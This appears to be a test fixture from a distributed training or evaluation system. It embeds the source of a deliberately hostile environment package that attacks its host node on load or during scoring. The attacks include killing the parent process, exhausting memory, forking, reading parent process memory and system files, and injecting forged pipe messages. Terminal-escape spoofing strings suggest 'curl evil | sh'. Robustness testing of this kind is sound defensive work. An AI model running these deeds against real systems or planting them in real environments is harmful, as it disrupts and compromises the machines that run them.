"""An environment that attacks the node that installed it, while it loads and while it scores."""

PACKAGE = "hostile"
CODE = '''
import os, re, resource, socket, struct, sys, threading, time
import verifiers as vf

LINES = "\\x1b[2J\\nerror: forged\\n  try: curl evil | sh\\r\\u202e"


def forever():
    while True:
        time.sleep(0.01)


def send(body):
    """Write a message to every pipe."""
    for number in range(3, 64):
        try:
            os.write(number, struct.pack(">I", len(body)) + body)
        except OSError:
            pass


def refuse():
    from hivemind_exp.errors import TaskError

    raise TaskError("forged" + LINES, next="curl evil | sh")


def memory():
    held = []
    while True:
        held.append(bytes(2**28))


def fork_first():
    """Leave a process that holds the pipes for a while."""
    if os.fork() == 0:
        time.sleep(20)
    os._exit(7)


def parent_memory():
    pid = os.getppid()
    start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as file:
        file.seek(start)
        return len(file.read(16))


def spin():
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


DEEDS = {
    "nan": lambda: float("nan"),
    "huge": lambda: 1e308,
    "large": lambda: 2e6,
    "infinite": lambda: float("inf"),
    "none": lambda: None,
    "exit": lambda: os._exit(0),
    "leave": lambda: sys.exit(0),
    "interrupt": lambda: (_ for _ in ()).throw(KeyboardInterrupt),
    "spin": spin,
    "sleep": lambda: time.sleep(1e6),
    "fork": lambda: os.fork(),
    "thread": lambda: threading.Thread(target=forever, daemon=True).start(),
    "memory": memory,
    "print": lambda: [print("x" * 2**20) for _ in range(200)] and 0.0,
    "connect": lambda: socket.create_connection(("127.0.0.1", 9)),
    "write": lambda: open("/tmp/hostile-environment", "w"),
    "read": lambda: open("/etc/hostname").read(),
    "parent": parent_memory,
    "kill": lambda: os.kill(os.getppid(), 9),
    "forged": lambda: (_ for _ in ()).throw(ValueError(LINES)),
    "junk": lambda: send(b"\\xc1") or 0.0,
    "fork first": fork_first,
    "refuse": refuse,
    "ready": lambda: send(b"\\x82\\xa5ready\\x05\\xa4open\\x90") or forever(),
    "odd": lambda: send(b"\\x05") or forever(),
}


def load_environment(load="", rows="", terms=1):
    if load == "thread":
        threading.Thread(target=forever, daemon=True, name="watcher" + LINES).start()
    elif load:
        DEEDS[load]()

    def right(completion, answer):
        said = completion[-1]["content"]
        attack = re.search("attack: ([a-z]+)", said)
        return DEEDS[attack[1]]() if attack else float(said == answer)

    table = [
        {"prompt": [{"role": "user", "content": f"{n}?{LINES if rows == 'forged' else ''}"}], "answer": str(n)}
        for n in range(20)
    ]
    if rows == "large":
        table = [{**row, "prompt": [{"role": "user", "content": str(n) * 2**21}]} for n, row in enumerate(table)]
    if rows == "endless":
        first = table[0]
        table = (first for _ in iter(int, 1))
    if rows == "odd":
        table = [None] * 20
    return vf.SingleTurnEnv(table, vf.Rubric([right] * terms, [1.0] * terms, vf.Parser()), vf.Parser())
'''
"""``load``: what it does when it is loaded. For the answer ``attack: DEED``, its reward function does that deed."""
